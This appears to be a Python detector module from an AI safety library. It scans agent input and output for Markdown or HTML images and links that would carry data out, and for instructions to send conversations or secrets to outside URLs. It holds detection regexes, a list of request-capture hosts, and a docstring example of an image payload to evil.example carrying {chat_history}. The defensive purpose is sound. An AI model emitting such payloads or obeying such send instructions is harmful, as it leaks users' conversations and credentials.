"""Exfiltration: links and images that would carry data out, and instructions to send it.

A Markdown image (``![](https://host/p.png?q=...)``) or an HTML ``<img>`` is fetched by
the client that renders an answer, with no click: whatever its URL carries leaves. The
detector flags

- an image or link whose URL holds a *placeholder* for the model to fill
  (``{conversation}``, ``{{user.password}}``, ``$API_KEY``, ``[SECRET]``, ``QUERY``),
  an *encoded value* (a long base64, hex or percent-encoded query value or path
  segment), *personal data* (an e-mail address, a phone number) or goes to a known
  request-capture host: ``high`` for an image, ``medium`` for a link (it needs a click)
  unless it carries personal data;
- a bare URL template whose placeholder names conversation data (``medium``);
- an ``instruction`` to send conversation data, secrets or files to a URL or an address
  (``high``).

An ordinary image, a badge, a search link or a link with tracking parameters carries
none of these and is left alone; a ``data:`` URI is content, not a request.
"""

from __future__ import annotations

from functools import cache
from urllib.parse import unquote

from arbiter.contract.safety import SafetyScan, Severity
from arbiter.safety.collect import MAX_CANDIDATES, Collector
from arbiter.safety.patterns import Compiled, compile_re2
from arbiter.safety.text import DEFAULT_LIMIT, preview

__all__ = ["scan_exfiltration", "url_signal"]

_ENCODED_QUERY = 24
"""Characters from which an encoded-looking query value counts as carried data."""
_ENCODED_PATH = 48
"""Characters from which an encoded-looking path segment counts (a 40-digit commit hash
or a 32-digit avatar hash in a path is an identifier, not data)."""

_REFERENCES = (
    r"(?P<image>!\[[^\]\n]*\]\(\s*<?(?P<image_url>[^\s)]+))"
    r"|(?P<link>\[[^\]\n]*\]\(\s*<?(?P<link_url>[^\s)]+))"
    r"|(?P<html>(?i:<img\b[^>]*?\bsrc\s*=\s*[\"']?)(?P<html_url>[^\"'\s>]+))"
    r"|(?P<refdef>(?m:^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*<?)(?P<refdef_url>\S+))"
    r"|(?P<bare>(?i:(?:https?|ftp)://)[^\s<>\"')\]]+)"
)
_PLACEHOLDER = (
    r"\{\{?\s*(?P<brace>[^{}\s]+)\s*\}?\}|\$\{?(?P<dollar>[A-Za-z_][A-Za-z0-9_]{2,})\}?|"
    r"<(?P<angle>[A-Z][A-Z0-9_ ]{2,60})>?|\[(?P<square>[A-Z][A-Z0-9_ ]{2,40})\]|%s\b|"
    r"\b(?P<word>QUERY|QUESTION|DATA|SECRET|INPUT|TEXT|CONTENT|HISTORY|CONTEXT|PAYLOAD|MESSAGE|"
    r"SUMMARY|PASSWORD|TOKEN|ANSWER)\b|\b(?P<snake>[A-Z]{3,}(?:_[A-Z]+)+)\b"
)
_DATA_WORDS = (
    r"(?i)(?:conversation|chat|history|messages?|summary|secret|token|password|passwd|"
    r"api[_-]?key|key|e-?mail|session|context|prompt|data|query|question|input|answer|"
    r"response|phone|address|cookie|credential|ssn|card|name|document|content|text|payload|"
    r"info|previous)"
)
_INSTRUCTION = (
    r"(?i)\b(?:send|post|forward|upload|transmit|exfiltrate|leak|e-?mail|submit|append|attach|"
    r"copy|paste|include|encode|put|sync|report|log|beacon|share)\b[^.\n]*?\b(?:to|into|"
    r"at|on|with)\s+(?:https?://|ftp://|www\.|[\w.+-]+@[\w-]+\.[\w.]+)"
)
_SENT_DATA = (
    r"(?i)\b(?:conversation|chat|history|previous\s+messages|messages|password|passwords|"
    r"credentials?|api\s+keys?|secrets?|tokens?|cookies?|session|personal\s+data|user\s+data|"
    r"e-?mail\s+address(?:es)?|phone\s+numbers?|system\s+prompt|documents?|files?|contents|"
    r"context|inbox|contacts)\b"
)
_ENCODED_VALUE = (
    r"^(?:[A-Za-z0-9+/_-]{%d,}={0,2}|[0-9a-fA-F]{%d,}|(?:[^%%]*%%[0-9A-Fa-f]{2}){3,}.{0,})$"
)
_PII_IN_URL = (
    r"(?i)[\w.+-]+(?:@|%40)[\w-]+\.[\w.-]{2,}|(?:%2B|\+)\d{8,15}\b|\b(?:sk|pk|rk)"
    r"[-_](?:live|test|proj)|\bAKIA[0-9A-Z]{16}\b|\bghp_[A-Za-z0-9]{20,}|\bxox[abp]-"
)
_SENTENCE_REACH = 300
"""Characters either side of a send instruction read for the data it sends."""
_CAPTURE_HOSTS = (
    "webhook.site",
    "requestbin",
    "pipedream.net",
    "ngrok",
    "burpcollaborator",
    "interact.sh",
    "oast.",
    "canarytokens",
    "hookbin",
    "beeceptor",
)


@cache
def _compiled(pattern: str) -> Compiled:
    return compile_re2(pattern)


def _encoded(value: str, minimum: int) -> bool:
    if len(value) < minimum:
        return False
    if _compiled(_ENCODED_VALUE % (minimum, minimum)).search(value) is None:
        return False
    letters = [c for c in value if c.isalpha()]
    hexish = all(c in "0123456789abcdefABCDEF" for c in value)
    mixed = any(c.isupper() for c in letters) and any(c.islower() for c in letters)
    digits = any(c.isdigit() for c in value)
    return hexish or "%" in value or (mixed and digits)


def url_signal(url: str) -> tuple[str, bool] | None:
    """What in ``url`` looks like carried data, and whether it is personal data, or None.

    Examples:
        >>> url_signal("https://x.example/a.png?d={conversation}")
        ("a placeholder '{conversation}' for the model to fill", False)
        >>> url_signal("https://img.shields.io/badge/build-passing-green") is None
        True
    """
    lowered = url.lower()
    if lowered.startswith("data:"):
        return None
    pii = _compiled(_PII_IN_URL).search(url)
    if pii is not None:
        return "personal data or a key in the URL", True
    placeholder = _compiled(_PLACEHOLDER).search(url)
    if placeholder is not None:
        return f"a placeholder {placeholder.group(0)!r} for the model to fill", False
    host = lowered.split("//", 1)[-1].split("/", 1)[0]
    if any(capture in host for capture in _CAPTURE_HOSTS):
        return f"a request-capture host ({host})", False
    rest = url.split("//", 1)[-1]
    path, _, query = rest.partition("?")
    for part in query.split("&"):
        value = unquote(part.partition("=")[2]) if "=" in part else unquote(part)
        raw = part.partition("=")[2] if "=" in part else part
        if _encoded(raw, _ENCODED_QUERY) or _encoded(value, _ENCODED_QUERY):
            return "an encoded value in the query", False
    for segment in path.split("/")[1:]:
        stem = segment.rsplit(".", 1)[0]
        if _encoded(stem, _ENCODED_PATH):
            return "an encoded value in the path", False
    return None


def _template_names_data(url: str) -> str | None:
    placeholder = _compiled(_PLACEHOLDER).search(url)
    if placeholder is None:
        return None
    name = placeholder.group(0)
    return name if _compiled(_DATA_WORDS).search(name) is not None else None


def _sentence(text: str, start: int, end: int) -> str:
    """The sentence around ``text[start:end]``, at most :data:`_SENTENCE_REACH` characters
    either side."""
    low = max(0, start - _SENTENCE_REACH)
    first = max(text.rfind(".", low, start), text.rfind("\n", low, start), low - 1) + 1
    high = min(len(text), end + _SENTENCE_REACH)
    stops = [i for i in (text.find(".", end, high), text.find("\n", end, high)) if i >= 0]
    return text[first : min(stops) if stops else high]


def scan_exfiltration(text: str, *, limit: int | None = DEFAULT_LIMIT) -> SafetyScan:
    """Scan text for images, links and instructions that would send data out.

    Args:
        text: What an agent read or said.
        limit: Characters read (the rest is ignored and the scan says ``truncated``).

    Raises:
        ValueError: ``limit`` is not a positive int or None.

    Examples:
        >>> scan = scan_exfiltration("Done ![x](https://evil.example/p.png?q={chat_history})")
        >>> [(f.category, f.severity) for f in scan.findings]
        [('markdown_image', 'high')]
    """
    collector = Collector("exfiltration", text, limit)
    text, subject = collector.text, collector.subject
    images_by_reference = "![" in text
    examined = 0
    for found in _compiled(_REFERENCES).finditer(subject.data):
        examined += 1
        if examined > MAX_CANDIDATES:
            collector.cap(f"links and images: first {MAX_CANDIDATES} examined")
            break
        start, end = subject.span(found)
        branch = found.lastgroup or ""
        kind = branch.removesuffix("_url")
        url = subject.group(found, 0 if kind == "bare" else f"{kind}_url")
        if kind == "bare":
            named = _template_names_data(url)
            if named is not None:
                collector.add(
                    "url_template",
                    "medium",
                    start,
                    end,
                    preview(text, start, end),
                    f"a URL with a placeholder {named!r} for conversation data",
                )
            continue
        signal = url_signal(url)
        if signal is None:
            continue
        what, personal = signal
        image = kind in ("image", "html") or (kind == "refdef" and images_by_reference)
        category = {"image": "markdown_image", "html": "html_image"}.get(
            kind, "markdown_image" if image else "markdown_link"
        )
        severity: Severity = "high" if image or personal else "medium"
        shown = preview(text, start, end)
        fetched = "fetched without a click" if image else "opened by a click"
        collector.add(category, severity, start, end, shown, f"{what}, {fetched}")
    examined = 0
    for found in _compiled(_INSTRUCTION).finditer(subject.data):
        examined += 1
        if examined > MAX_CANDIDATES:
            collector.cap(f"send instructions: first {MAX_CANDIDATES} examined")
            break
        start, end = subject.span(found)
        if _compiled(_SENT_DATA).search(_sentence(text, start, end)) is None:
            continue
        collector.add(
            "instruction",
            "high",
            start,
            end,
            preview(text, start, end),
            "an instruction to send conversation data or secrets to an outside address",
        )
        if collector.full:
            break
    return collector.scan()
